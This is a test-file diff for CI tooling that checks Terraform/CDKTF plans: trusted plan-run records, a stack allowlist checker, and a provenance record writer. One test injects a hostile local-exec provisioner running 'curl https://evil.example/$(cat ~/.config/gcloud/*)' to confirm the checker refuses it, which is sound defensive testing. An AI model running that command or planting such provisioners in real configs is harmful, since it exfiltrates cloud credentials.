@@ -92,17 +92,25 @@ describe('plan-comment', () => {
     expect(run('plan-comment', ['--stack', 'x', fixturePath('new-service'), '--digest']).stdout.trim()).toBe(planDigest(fixture('new-service')));
   });
 
-  it('verifies against the pull request comments (one JSON string per line, as gh --jq @json writes them)', () => {
-    const dir = mkdtempSync(join(tmpdir(), 'comments-'));
-    const comments = join(dir, 'comments.jsonl');
-    const reviewed = renderPlanComment(fixture('new-service'), { stack: 'platform' });
-    writeFileSync(comments, `${JSON.stringify('LGTM')}\n${JSON.stringify(reviewed)}\n`);
-    const ok = run('plan-comment', ['--stack', 'platform', fixturePath('new-service'), '--verify-comments', comments, '--pull-request', '7']);
+  it('verifies against the trusted plan run\'s record for the merged pull request and its head commit', () => {
+    const dir = mkdtempSync(join(tmpdir(), 'record-'));
+    const record = join(dir, 'digests.json');
+    const head = 'a'.repeat(40);
+    writeFileSync(record, JSON.stringify({ pullRequest: 7, headSha: head, synthRunId: 1, planRunId: 2, stacks: { platform: planDigest(fixture('new-service')) } }));
+    const args = (plan: Parameters<typeof fixturePath>[0], pr = '7', sha = head) => ['--stack', 'platform', fixturePath(plan), '--verify-record', record, '--pull-request', pr, '--head-sha', sha];
+    const ok = run('plan-comment', args('new-service'));
     expect(ok.code).toBe(0);
-    expect(ok.stdout).toContain('is the plan reviewed on pull request #7');
-    const stale = run('plan-comment', ['--stack', 'platform', fixturePath('replace-database'), '--verify-comments', comments, '--pull-request', '7']);
+    expect(ok.stdout).toContain('is the plan reviewed in the trusted plan run 2 of pull request #7');
+    const stale = run('plan-comment', args('replace-database'));
     expect(stale.code).toBe(1);
-    expect(stale.stderr).toContain('differs from the plan reviewed on pull request #7');
+    expect(stale.stderr).toContain('differs from the plan reviewed in the trusted plan run 2 of pull request #7');
+    // A record of another pull request or commit is never used.
+    const other = run('plan-comment', args('new-service', '8'));
+    expect(other.code).toBe(2);
+    expect(other.stderr).toContain('are of pull request #7 at aaaaaaa');
+    const missing = run('plan-comment', ['--stack', 'platform', fixturePath('new-service'), '--verify-record', join(dir, 'none.json'), '--pull-request', '7', '--head-sha', head]);
+    expect(missing.code).toBe(1);
+    expect(missing.stderr).toContain('No reviewed plan for stack platform');
   });
 
   it('verifies a digest typed in for a run by hand', () => {
@@ -139,20 +147,14 @@ describe('plan-comment', () => {
     }
   });
 
-  it('exits 2 with a message, not a stack trace, on malformed --verify-comments files', () => {
-    const dir = mkdtempSync(join(tmpdir(), 'comments-'));
-    const cases: [string, string][] = [
-      ['[not json', 'not a JSON list'],
-      ['[1, 2]', 'expected a JSON list of strings'],
-      ['{"body": "x"}', 'expected one JSON string per line'],
-      ['"ok"\n42\n', ':2: expected one JSON string per line'],
-    ];
-    for (const [text, message] of cases) {
-      const file = join(dir, 'comments.json');
+  it('exits 2 with a message, not a stack trace, on a malformed record', () => {
+    const dir = mkdtempSync(join(tmpdir(), 'record-'));
+    for (const text of ['[not json', '{"pullRequest": 7}', JSON.stringify({ pullRequest: 7, headSha: 'a'.repeat(40), synthRunId: 1, planRunId: 2, stacks: { platform: 'LGTM' } })]) {
+      const file = join(dir, 'digests.json');
       writeFileSync(file, text);
-      const { code, stderr } = run('plan-comment', ['--stack', 'platform', fixturePath('new-service'), '--verify-comments', file, '--pull-request', '7']);
+      const { code, stderr } = run('plan-comment', ['--stack', 'platform', fixturePath('new-service'), '--verify-record', file, '--pull-request', '7', '--head-sha', 'a'.repeat(40)]);
       expect({ text, code }).toEqual({ text, code: 2 });
-      expect(stderr).toContain(message);
+      expect(stderr).toContain('digests.json');
       expect(stderr).not.toMatch(/\n\s+at /);
     }
   });
@@ -208,5 +210,45 @@ describe('destroy-guard', () => {
     const { code, stderr } = run('destroy-guard', [fixturePath('new-service'), '--allow-destroys']);
     expect(code).toBe(2);
     expect(stderr).toContain('usage: npm run destroy-guard -- <plan.json> [--allow-destroy]');
+  });
+});
+
+describe('check-stacks', () => {
+  const synth = (dir: string) => execFileSync(process.execPath, [join(REPO_ROOT, 'dist', 'bin', 'main.js')], { cwd: REPO_ROOT, env: { ...process.env, CDKTF_OUTDIR: dir }, encoding: 'utf8' });
+
+  it('passes our own synthesized stacks and copies them; refuses a hostile one with a report, writing nothing', () => {
+    const out = mkdtempSync(join(tmpdir(), 'synth-'));
+    synth(out);
+    const checked = join(mkdtempSync(join(tmpdir(), 'checked-')), 'out');
+    const ok = run('check-stacks', ['--synth', out, '--out', checked]);
+    expect(ok.code).toBe(0);
+    expect(ok.stdout).toMatch(/^\d+ stacks passed the allowlist: .*\bplatform, service-payment-development\b/);
+    const file = join(out, 'stacks', 'service-search-production', 'cdk.tf.json');
+    const config = JSON.parse(readFileSync(file, 'utf8'));
+    config.resource.null_resource = { pwn: { provisioner: [{ 'local-exec': { command: 'curl https://evil.example/$(cat ~/.config/gcloud/*)' } }] } };
+    writeFileSync(file, JSON.stringify(config));
+    const report = join(out, 'refused.md');
+    const refused = run('check-stacks', ['--synth', out, '--out', join(mkdtempSync(join(tmpdir(), 'checked-')), 'out'), '--report', report]);
+    expect(refused.code).toBe(1);
+    expect(refused.stderr).toContain('service-search-production: resource type "null_resource" is not one our constructs emit');
+    expect(refused.stderr).toContain('service-search-production: resource.null_resource.pwn.provisioner: provisioners and connections are refused');
+    expect(readFileSync(report, 'utf8')).toMatch(/^<!-- plan:refused -->\n### Plan refused/);
+  }, 60_000);
+});
+
+describe('plan-provenance record', () => {
+  it('writes the record the apply job reads, refusing what it would refuse to read', () => {
+    const dir = mkdtempSync(join(tmpdir(), 'digests-'));
+    const digest = planDigest(fixture('new-service'));
+    writeFileSync(join(dir, 'platform.digest'), `${digest}\n`);
+    const out = join(dir, 'digests.json');
+    const head = 'b'.repeat(40);
+    const ok = run('plan-provenance', ['record', '--pull-request', '5', '--head-sha', head, '--synth-run', '10', '--plan-run', '11', '--digests', dir, '--out', out]);
+    expect(ok.code).toBe(0);
+    expect(JSON.parse(readFileSync(out, 'utf8'))).toEqual({ pullRequest: 5, headSha: head, synthRunId: 10, planRunId: 11, stacks: { platform: digest } });
+    writeFileSync(join(dir, 'evil.digest'), 'LGTM');
+    const bad = run('plan-provenance', ['record', '--pull-request', '5', '--head-sha', head, '--synth-run', '10', '--plan-run', '11', '--digests', dir, '--out', join(dir, 'x.json')]);
+    expect(bad.code).toBe(2);
+    expect(bad.stderr).toContain('digests.json: expected');
   });
 });
